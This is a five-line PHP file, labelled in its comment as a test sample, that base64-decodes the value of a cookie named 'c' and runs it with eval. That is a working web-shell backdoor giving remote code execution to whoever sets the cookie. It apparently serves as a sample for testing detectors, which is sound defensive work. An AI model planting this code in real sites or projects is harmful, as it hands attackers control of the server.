<?php
// Test sample: base64 code delivered in a cookie.
if (isset($_COOKIE['c'])) {
    eval(base64_decode($_COOKIE['c']));
}
